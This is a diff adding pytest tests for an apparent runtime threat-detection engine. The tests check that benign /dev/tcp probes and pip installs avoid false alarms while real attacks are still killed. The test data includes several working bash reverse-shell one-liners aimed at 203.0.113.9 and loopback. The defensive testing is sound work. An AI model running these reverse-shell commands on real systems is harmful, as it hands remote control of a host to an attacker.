@@ -1,0 +1,169 @@
+"""Exemptions made for the false-alarm corpus (tests/e2e/test_false_alarms.py),
+each pinned together with the attack it must keep catching."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from bastion.detect.behavior import behavior_rules
+from bastion.detect.engine import Engine, Finding, RuleContext
+from bastion.events import Event, from_json
+from bastion.proctable import ProcessTable
+
+NS = 1_000_000_000
+
+
+class World:
+    def __init__(self) -> None:
+        self.procs = ProcessTable()
+        self.engine = Engine(behavior_rules())
+        self.ctx = RuleContext(self.procs)
+        self.t = 1_767_225_600 * NS
+        self.meta: dict[int, dict[str, Any]] = {}
+
+    def _feed(self, obj: dict[str, Any]) -> list[Finding]:
+        self.t += NS // 100
+        sec, ns = divmod(self.t, NS)
+        import time as _t
+        obj["time"] = _t.strftime("%Y-%m-%dT%H:%M:%S", _t.gmtime(sec)) + f".{ns // 1000:06d}Z"
+        ev: Event = from_json(obj)
+        self.procs.update(ev)
+        return self.engine.evaluate(ev, self.ctx)
+
+    def _proc(self, pid: int) -> dict[str, Any]:
+        m = self.meta[pid]
+        return {"pid": pid, "tid": pid, "ppid": m["ppid"], "uid": 0, "euid": 0, "gid": 0,
+                "cgroup_id": 1, "comm": m["exe"].rsplit("/", 1)[-1][:15],
+                "start_ns": pid * 1000, "exe": m["exe"]}
+
+    def exec(self, pid: int, exe: str, argv: list[str], ppid: int = 1) -> list[Finding]:
+        self.meta[pid] = {"ppid": ppid, "exe": exe}
+        return self._feed({"type": "exec", **self._proc(pid), "filename": exe, "cwd": "/root",
+                           "argv": argv, "exe_dev": 1, "exe_ino": pid, "exe_nlink": 1})
+
+    def connect(self, pid: int, daddr: str, dport: int) -> list[Finding]:
+        return self._feed({"type": "connect", **self._proc(pid), "family": "inet",
+                           "protocol": "tcp", "saddr": "", "sport": 0, "daddr": daddr,
+                           "dport": dport, "backlog": 0, "fd": -1})
+
+
+def _rule(found: list[Finding], rule: str) -> list[Finding]:
+    return [f for f in found if f.rule == rule]
+
+
+@pytest.mark.parametrize("script", [
+    "(exec 3<>/dev/tcp/127.0.0.1/9 ) 2>/dev/null || true",      # make bench's sigma workload
+    "</dev/tcp/db/5432",                                         # wait-for-it style probe
+    "exec 3<>/dev/tcp/example.org/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
+])
+def test_dev_tcp_client_is_reported_not_killed(script: str) -> None:
+    w = World()
+    got = _rule(w.exec(10, "/usr/bin/bash", ["bash", "-c", script]),
+                "behavior.reverse_shell_command")
+    assert got and all(f.severity == "medium" and f.action == "alert" for f in got)
+
+
+@pytest.mark.parametrize("script", [
+    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    "0<&196;exec 196<>/dev/tcp/203.0.113.9/80; sh <&196 >&196 2>&196",
+    "exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | while read line; do $line 2>&5 >&5; done",
+    "sh -i 5<> /dev/tcp/203.0.113.9/80 0<&5 1>&5 2>&5",
+    "exec bash -i &>/dev/tcp/203.0.113.9/80 <&1",
+    "/bin/sh 0</dev/tcp/203.0.113.9/80 1>&0 2>&0",
+    "exec 3<>/dev/tcp/127.0.0.1/4444; cat <&3 | bash >&3 2>&3",
+])
+def test_dev_tcp_reverse_shells_stay_critical(script: str) -> None:
+    w = World()
+    got = _rule(w.exec(10, "/usr/bin/bash", ["bash", "-c", script]),
+                "behavior.reverse_shell_command")
+    assert got and got[0].severity == "critical" and got[0].action == "kill"
+
+
+def test_shell_connect_loopback_medium_remote_critical() -> None:
+    w = World()
+    w.exec(10, "/usr/bin/bash", ["bash"])
+    local = _rule(w.connect(10, "127.0.0.1", 9), "behavior.reverse_shell_command")
+    assert local and local[0].severity == "medium" and local[0].action == "alert"
+    remote = _rule(w.connect(10, "203.0.113.9", 4444), "behavior.reverse_shell_command")
+    assert remote and remote[0].severity == "critical" and remote[0].action == "kill"
+
+
+def _pip_then_run(w: World, installer_argv: list[str]) -> list[Finding]:
+    out = w.exec(20, "/usr/bin/python3.11", installer_argv)
+    out += w.connect(20, "151.101.0.223", 443)
+    out += w._feed({"type": "open", **w._proc(20), "path": "/home/a/venv/bin/tool", "path2": "",
+                    "flags": 0o1101, "mode": 0o644, "owner_uid": -1, "owner_gid": -1,
+                    "dev": 1, "ino": 7})
+    out += w.exec(21, "/home/a/venv/bin/tool", ["/home/a/venv/bin/tool"])
+    return _rule(out, "behavior.download_execute")
+
+
+@pytest.mark.parametrize("argv", [
+    ["/home/a/venv/bin/python", "/home/a/venv/bin/pip", "install", "tool"],
+    ["/home/a/venv/bin/python", "/home/a/venv/bin/pip3.11", "install", "tool"],
+    ["python3", "-m", "pip", "install", "--user", "tool"],
+    ["/usr/bin/python3", "/home/a/venv/lib/python3.11/site-packages/pip/__pip-runner__.py",
+     "install", "--prefix", "/tmp/pip-build-env-x/overlay", "wheel"],
+])
+def test_pip_installed_console_script_is_not_a_download_execute(argv: list[str]) -> None:
+    assert not _pip_then_run(World(), argv)
+
+
+@pytest.mark.parametrize("argv", [
+    ["python3", "fetch.py"],                                     # a python dropper
+    ["python3", "/tmp/pip", "install"],                          # named pip, not in a bin/
+    ["python3", "-c", "import pip"],
+])
+def test_other_python_downloaders_still_caught(argv: list[str]) -> None:
+    got = _pip_then_run(World(), argv)
+    assert got and got[0].severity == "high"
+
+
+def _ransom_world(entropy: dict[str, float]) -> tuple[World, Any, list[str]]:
+    from bastion.detect.behavior.rules import Probes, Ransomware
+
+    calls: list[str] = []
+
+    def probe(path: str) -> float | None:
+        calls.append(path)
+        return entropy.get(path, 4.0)
+
+    w = World()
+    rule = Ransomware(probes=Probes(entropy=probe))
+    w.engine = Engine([rule])
+    return w, rule, calls
+
+
+def _write(w: World, pid: int, path: str) -> list[Finding]:
+    return w._feed({"type": "open", **w._proc(pid), "path": path, "path2": "", "flags": 0o1101,
+                    "mode": 0o644, "owner_uid": -1, "owner_gid": -1, "dev": 1, "ino": 7})
+
+
+def test_ransomware_benign_burst_is_checked_sparingly() -> None:
+    """tar x of 20 000 text files into /home: checked every count/4 files, not per file."""
+    w, rule, calls = _ransom_world({})
+    w.exec(30, "/usr/bin/tar", ["tar", "xzf", "src.tgz"])
+    found = []
+    for i in range(2000):
+        found += _write(w, 30, f"/home/a/src/f{i}.c")
+    assert not found
+    assert len(calls) <= 8 * (2000 // (rule.count // 4) + 1)
+    assert rule.stats()["shed"] == 0
+
+
+def test_ransomware_after_a_benign_burst_still_stopped_quickly() -> None:
+    enc = {f"/home/a/docs/e{i}.locked": 7.9 for i in range(200)}
+    w, rule, _ = _ransom_world(enc)
+    w.exec(31, "/usr/bin/python3.11", ["python3", "x.py"])
+    for i in range(100):
+        _write(w, 31, f"/home/a/src/f{i}.c")          # benign rewrite first
+    n = 0
+    for i in range(200):
+        n += 1
+        got = [f for f in _write(w, 31, f"/home/a/docs/e{i}.locked") if f.severity == "critical"]
+        if got:
+            break
+    assert got and got[0].action == "kill-tree"
+    assert n <= rule.count // 4 + 8, n
